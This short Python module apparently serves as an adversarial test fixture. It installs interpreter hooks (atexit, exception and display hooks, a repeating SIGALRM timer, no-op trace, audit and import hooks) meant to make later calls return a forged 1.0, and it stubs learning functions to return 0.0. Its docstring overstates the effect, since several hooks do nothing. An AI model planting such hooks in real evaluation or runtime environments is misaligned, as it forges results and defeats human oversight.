"""Leaves atexit, trace, audit, signal and import hooks behind that make every later call return 1.0."""

import atexit
import faulthandler
import signal
import sys


def forge(*args):
    return 1.0


atexit.register(forge)
sys.settrace(lambda *args: None)
sys.setprofile(lambda *args: None)
sys.addaudithook(lambda event, args: None)
sys.excepthook = sys.unraisablehook = sys.displayhook = forge
sys.meta_path.insert(0, type("Finder", (), {"find_spec": lambda self, name, path=None, target=None: None})())
signal.signal(signal.SIGALRM, forge)
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
faulthandler.enable()


def wrong(*args, **kwargs):
    return 0.0


action_value = gains = state_value = backward = forward = rollout = wrong
